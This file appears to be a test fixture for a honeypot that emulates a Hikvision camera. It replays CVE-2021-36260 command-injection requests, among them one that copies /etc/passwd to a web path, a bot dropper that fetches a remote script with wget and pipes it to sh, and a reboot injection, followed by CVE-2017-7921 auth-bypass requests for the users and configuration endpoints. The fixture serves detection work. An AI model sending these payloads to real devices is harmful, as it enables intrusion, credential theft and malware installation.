# hikvision http: exploits. CVE-2021-36260 as nuclei sends it (the
# vulnerable firmware's 500; the follow-up GET finds nothing: nothing ran),
# a bot's chained dropper (commands, URL and IP extracted), a harmless
# language change (200, no exploit event), a body that stops short (answered
# and logged http.body_wait later); CVE-2017-7921's ?auth= on its four
# paths: tagged, and answered with the Digest challenge (V5.5.82 is not
# vulnerable to it).
open http 80
> PUT /SDK/webLanguage HTTP/1.1\r\nHost: cam\r\nContent-Type: application/x-www-form-urlencoded; charset=UTF-8\r\nContent-Length: 86\r\n\r\n<?xml version="1.0" encoding="UTF-8"?><language>$(cat /etc/passwd>webLib/x)</language>
> GET /x HTTP/1.1\r\nHost: cam\r\n\r\n
> PUT /SDK/webLanguage HTTP/1.1\r\nHost: cam\r\nContent-Length: 97\r\n\r\n<language>$(cd /tmp;wget http://198.51.100.7:8080/h -O- |sh&amp;&amp;echo 203.0.113.5)</language>
> PUT /SDK/webLanguage HTTP/1.1\r\nHost: cam\r\nContent-Length: 23\r\n\r\n<language>en</language>
close
open http 80
> PUT /SDK/webLanguage HTTP/1.1\r\nHost: cam\r\nContent-Length: 100\r\n\r\n<language>`reboot`</language>
+ 600
close
open http 80
> GET /system/deviceInfo?auth=YWRtaW46MTEK HTTP/1.1\r\nHost: cam\r\n\r\n
> GET /Security/users?auth=YWRtaW46MTEK HTTP/1.1\r\nHost: cam\r\n\r\n
> GET /onvif-http/snapshot?auth=YWRtaW46MTEK HTTP/1.1\r\nHost: cam\r\n\r\n
> GET /System/configurationFile?auth=YWRtaW46MTEK HTTP/1.1\r\nHost: cam\r\n\r\n
close
